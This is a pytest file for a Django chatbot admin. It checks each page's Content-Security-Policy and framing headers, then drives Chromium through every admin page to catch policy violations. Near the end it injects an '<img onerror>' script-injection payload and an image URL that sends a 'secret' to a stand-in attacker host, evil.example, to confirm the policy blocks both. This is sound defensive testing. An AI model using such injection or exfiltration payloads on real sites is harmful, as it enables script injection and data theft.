"""What pages may load: the policy of each, and that no page of the admin breaks its own in a real browser."""

import json
from collections.abc import Iterator

import pytest
from django.urls import reverse

from chatbots.models import Chatbot
from tests.conftest import Api
from tests.providers_on_loopback import CHAT_COMPLETION, embedding, running
from tests.puffer.test_serve import Server, start, stop
from tests.test_browser import CHROMIUM, OPTIONS

EVAL = "'unsafe-eval'"


def policy_of(response) -> dict[str, str]:
    directives = response.headers["Content-Security-Policy"].split(";")
    return dict(directive.strip().partition(" ")[::2] for directive in directives)


@pytest.mark.parametrize("path", ["/admin/login/", "/api/docs/", "/api/schema/", "/nothing/"])
def test_pages_run_no_script_but_ours_and_load_nothing_from_elsewhere(client, db, path):
    policy = policy_of(client.get(path))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"].split() == (["'self'"] if "docs" in path else ["'self'", EVAL])
    for directive in ("base-uri", "frame-ancestors"):
        assert policy[directive] == "'none'"
    everywhere = " ".join(policy.values())
    assert "http" not in everywhere
    assert "*" not in everywhere


def test_the_pages_of_a_chatbot_keep_their_own(client, admin_client, db):
    bot = Chatbot.objects.create(
        name="Shop", status="published", enable_chat_page=True, embed_allowed_domains=["shop.example"]
    )
    page = policy_of(client.get(f"/chat/{bot.pk}/"))
    assert page["script-src"] == "'self'"
    assert "https://shop.example" in page["frame-ancestors"]
    preview = policy_of(admin_client.get(reverse("admin:chatbots_chatbot_preview", args=[bot.pk])))
    assert preview["frame-ancestors"] == "'self'"
    assert EVAL not in preview["script-src"]


def test_answers_of_the_api_have_none(db):
    for path in ("/logs", "/wp-json/aipkit/v1"):
        assert "content-security-policy" not in Api("").get(path).headers


def test_old_browsers_frame_nothing_either(client, db):
    assert client.get("/admin/login/")["X-Frame-Options"] == "DENY"


# In a browser


DATA = """
from django.contrib.auth import get_user_model
from chatbots.models import Chatbot
from logs.models import Conversation, Message, UsageEvent, new_uuid
from puffer.models import ApiKey
from vectorstores.models import Collection, Document
owner = get_user_model().objects.create_superuser("owner", password="correct horse")
bot = Chatbot.objects.create(
    name="Shop", provider="openai", model="gpt-4o-mini", status="published", enable_chat_page=True
)
talk = Conversation.objects.create(chatbot=bot, user=owner, message_count=1, identity=new_uuid())
Message.objects.create(conversation=talk, role="user", content="Hi")
UsageEvent.objects.create(operation="completion", provider="openai", model="m", milliseconds=5, status=200)
ApiKey(name="Website", scopes=["chat"]).issue()
faq = Collection.objects.create(store="local", name="faq", dimension=3)
Document.objects.create(collection=faq, parent_vector_id="a", title="Returns")
"""
# Every page without arguments, and the pages of the first row of each model.
PAGES = """
import json
from django.contrib import admin
from django.urls import NoReverseMatch, reverse
found = ["/admin/", "/admin/password_change/", "/api/docs/", "/chat/1/"]
for model, model_admin in admin.site._registry.items():
    row = model.objects.order_by("pk").first()
    for pattern in model_admin.get_urls():
        for arguments in ([], [row.pk] if row else None):
            if pattern.name and arguments is not None:
                try:
                    found.append(reverse(f"admin:{pattern.name}", args=arguments))
                except NoReverseMatch:
                    pass
print(json.dumps(sorted(set(found))))
"""
LISTEN = """
window.broken = [];
document.addEventListener("securitypolicyviolation", event => {
    window.broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("policy")
    with running() as upstream:
        upstream.pages["/v1/embeddings"] = embedding()
        upstream.serves("/v1/chat/completions", CHAT_COMPLETION)
        server = start(folder, f"sqlite:///{folder}/puffer.sqlite3", upstream)
        server.python(DATA)
        yield server
        stop(server)


@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM.exists(), reason="no Chromium here")
def test_no_page_breaks_its_policy(server):
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright comes with requirements-dev.txt")
    paths = json.loads(server.python(PAGES))
    assert len(paths) > 50
    broken: dict[str, list[str]] = {}
    seen = 0
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=OPTIONS)
        page = browser.new_page()
        page.add_init_script(LISTEN)
        said: list[str] = []
        page.on("console", lambda message: said.append(message.text) if "Content Security" in message.text else None)
        page.on("pageerror", lambda error: said.append(str(error)))

        def look(path: str) -> None:
            page.wait_for_timeout(150)  # what scripts do after loading
            if found := [*said, *(words for frame in page.frames for words in frame.evaluate("window.broken || []"))]:
                broken[path] = found
            said.clear()

        page.goto(f"{server.url}/admin/login/")
        look("/admin/login/")
        page.fill("input[name=username]", "owner")
        page.fill("input[name=password]", "correct horse")
        page.click("button[type=submit]")
        page.wait_for_selector("text=Conversations")
        look("signing in")
        for path in paths:
            if page.request.get(server.url + path).status == 200:  # else it is no page, or may not be opened at all
                page.goto(server.url + path)
                look(path)
                seen += 1
        page.goto(f"{server.url}/admin/")
        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')")
        page.wait_for_timeout(300)
        assert page.evaluate("window.hacked") is None  # a script in what somebody has typed would not run
        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/?secret\">')")
        page.wait_for_timeout(300)
        assert any("evil.example" in words for words in page.evaluate("window.broken"))
        browser.close()
    assert broken == {}
    assert seen > 40
